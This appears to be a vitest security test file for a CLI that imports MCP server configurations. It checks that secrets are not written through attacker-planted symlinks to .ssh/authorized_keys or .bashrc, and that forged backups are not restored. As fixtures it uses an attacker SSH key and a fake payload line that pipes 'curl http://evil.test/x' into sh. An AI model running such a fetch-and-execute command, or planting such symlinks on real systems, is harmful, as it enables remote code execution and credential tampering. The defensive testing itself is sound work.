/** What somebody does whose project is cloned, or who can write where `import` is run: links, files and names they have made. */
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { ODD, Workspace } from "../e2e/cli/workspace.ts";
import { ROOT } from "../e2e/kit/program.ts";

const CONFIG = '[gateway]\nlisten = "127.0.0.1:0"\n';
const SEED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker";
const PLANTED = "curl http://evil.test/x | sh\n";
const UNSEALED = ".isthmus-backup-20990101000000000-000000000000";

/** A server that shows its environment. */
const odd = (env: Readonly<Record<string, string>>) => ({
  command: process.execPath,
  args: [join(ROOT, ODD)],
  env,
});

const clientText = (mcpServers: unknown) => JSON.stringify({ mcpServers });

/** The home of the user, which is the folder of the config, too, with a project in it that was cloned. */
function place(files: Readonly<Record<string, string>>): Workspace {
  const workspace = new Workspace();
  for (const [name, text] of Object.entries(files)) workspace.write(name, text);
  return workspace;
}

describe("servers of an imported file", () => {
  test.each<[string, Readonly<Record<string, object>>]>([
    [
      "by a name that ends where a key begins",
      {
        brave: odd({ "search-BRAVE/API_KEY": "token-of-nobody" }),
        "brave-search": odd({ BRAVE_API_KEY: "BSA-real-key-123" }),
      },
    ],
    [
      "by a name that is the other's with a key",
      {
        "brave-search": odd({ BRAVE_API_KEY: "BSA-real-key-123" }),
        brave: odd({ "search-BRAVE/API_KEY": "token-of-nobody" }),
      },
    ],
    [
      "by letters that no file name has",
      {
        brave: odd({ "search-BRAVE/API_KEY": "token-of-nobody" }),
        "brave-search": odd({ BRAVE_API_KEY: "BSA-real-key-123" }),
      },
    ],
  ])("do not get the keys of others %s", async (_, servers) => {
    await using workspace = place({ "isthmus.toml": CONFIG, "clients.json": clientText(servers) });
    expect((await workspace.run("import", "clients.json")).code).toBe(0);
    const referred = [...workspace.read("isthmus.toml").matchAll(/fromFile = "([^"]+)"/g)].map(([, path = ""]) => path);
    expect(new Set(referred).size).toBe(2);
    expect(referred.map((path) => workspace.read(path)).toSorted()).toEqual([
      "BSA-real-key-123\n",
      "token-of-nobody\n",
    ]);
    const asked = await workspace.run("call", "brave-search.env", "name=BRAVE_API_KEY");
    expect(asked.stdout).toBe("BSA-real-key-123\n");
  });
});

describe("a project that is imported", () => {
  const files = { "project/isthmus.toml": CONFIG, "project/.mcp.json": clientText({ s: odd({ KEY: SEED }) }) };
  const keys = ".ssh/authorized_keys";

  const attempt = (workspace: Workspace) =>
    workspace.run("import", "project/.mcp.json", "--config", "project/isthmus.toml");

  test.each<[string, (workspace: Workspace) => void]>([
    [
      "a link in place of a secret's file",
      (workspace) => {
        for (const name of ["s-KEY", "s/KEY"]) {
          const link = workspace.path("project/.isthmus/secrets", name);
          mkdirSync(dirname(link), { recursive: true, mode: 0o700 });
          symlinkSync(workspace.path(keys), link);
        }
      },
    ],
    [
      "a link to a file that is not there yet",
      (workspace) => {
        for (const name of ["s-KEY", "s/KEY"]) {
          const link = workspace.path("project/.isthmus/secrets", name);
          mkdirSync(dirname(link), { recursive: true, mode: 0o700 });
          symlinkSync(workspace.path(".ssh/rc"), link);
        }
      },
    ],
    [
      "a folder of secrets that is a link",
      (workspace) => {
        mkdirSync(workspace.path("project/.isthmus"));
        symlinkSync(workspace.path(".ssh"), workspace.path("project/.isthmus/secrets"));
      },
    ],
    ["a state folder that is a link", (w) => symlinkSync(w.path(".ssh"), w.path("project/.isthmus"))],
  ])("writes nothing elsewhere through %s", async (_, plant) => {
    await using workspace = place({ ...files, [keys]: "mine\n" });
    plant(workspace);
    await attempt(workspace);
    expect(workspace.read(keys)).toBe("mine\n");
    expect(readdirSync(workspace.path(".ssh"))).toEqual(["authorized_keys"]);
  });

  test("leaves its secret in no file that somebody else has made", async () => {
    await using workspace = place(files);
    const planted = ["s-KEY", "s/KEY"].map((name) => workspace.path("project/.isthmus/secrets", name));
    for (const file of planted) {
      mkdirSync(dirname(file), { recursive: true, mode: 0o700 });
      writeFileSync(file, "", { mode: 0o644 });
      if (process.getuid?.() === 0) chownSync(file, 65_534, 65_534);
    }
    expect((await attempt(workspace)).code).toBe(0);
    const [, path = ""] = /fromFile = "([^"]+)"/.exec(workspace.read("project/isthmus.toml")) ?? [];
    const written = workspace.path("project", path);
    expect(readFileSync(written, "utf8")).toBe(`${SEED}\n`);
    expect(statSync(written)).toMatchObject({ uid: process.getuid?.(), mode: 0o100600 });
    expect(planted.map((file) => readFileSync(file, "utf8"))).toEqual(["", ""]);
  });

  test("puts no secret into a folder that everybody can write", async () => {
    await using workspace = place(files);
    const secrets = workspace.path("project/.isthmus/secrets");
    mkdirSync(secrets, { recursive: true });
    chmodSync(secrets, 0o777);
    expect(await attempt(workspace)).toMatchObject({
      code: 9,
      stderr: expect.stringContaining(`chmod go-w ${secrets}`),
    });
    expect(readdirSync(secrets)).toEqual([]);
    expect(workspace.read("project/isthmus.toml")).toBe(CONFIG);
  });

  test("is not added to a config that is a link out of it", async () => {
    const { "project/isthmus.toml": _, ...rest } = files;
    await using workspace = place({ ...rest, ".bashrc": "# mine\n" });
    symlinkSync("../.bashrc", workspace.path("project/isthmus.toml"));
    expect(await attempt(workspace)).toMatchObject({ code: 9, stderr: expect.stringContaining("is behind a link") });
    expect(workspace.read(".bashrc")).toBe("# mine\n");
    expect(existsSync(workspace.path("project/.isthmus/secrets/s/KEY"))).toBe(false);
    const added = await workspace.run("add", "x", "--config", "project/isthmus.toml", "--", "x");
    expect(added.code).not.toBe(0);
    expect(workspace.read(".bashrc")).toBe("# mine\n");
  });
});

describe("import --undo", () => {
  test.each<[string, (workspace: Workspace) => void]>([
    ["a link and a backup", (w) => symlinkSync(".bashrc", w.path(".mcp.json"))],
    ["a link of a folder and a backup", (w) => symlinkSync(".", w.path(".cursor"))],
    ["a backup alone", (w) => w.write(".mcp.json", clientText({}))],
  ])("puts nothing anywhere that was made up: %s", async (_, plant) => {
    await using workspace = place({ ".bashrc": "mine\n" });
    plant(workspace);
    for (const name of [".mcp.json", "mcp.json"]) workspace.write(`${name}${UNSEALED}`, PLANTED);
    const { code, stderr } = await workspace.run("import", "--undo");
    expect(code).toBe(9);
    expect(stderr).toContain("is left alone: it was not made here by your own import");
    expect(workspace.read(".bashrc")).toBe("mine\n");
    for (const name of [".mcp.json", "mcp.json"])
      if (existsSync(workspace.path(name))) expect(workspace.read(name)).not.toBe(PLANTED);
  });

  test("takes back what was connected through the user's own link, and leaves it a link", async () => {
    const text = clientText({ s: { command: "x" } });
    await using workspace = place({ "isthmus.toml": CONFIG, "dotfiles/gemini.json": text });
    mkdirSync(workspace.path(".gemini"));
    symlinkSync("../dotfiles/gemini.json", workspace.path(".gemini/settings.json"));
    expect((await workspace.run("import", "gemini", "--connect")).code).toBe(0);
    expect(workspace.read("dotfiles/gemini.json")).toContain('"isthmus"');
    expect((await workspace.run("import", "--undo")).code).toBe(0);
    expect(workspace.read("dotfiles/gemini.json")).toBe(text);
    expect(lstatSync(workspace.path(".gemini/settings.json")).isSymbolicLink()).toBe(true);
  });
});
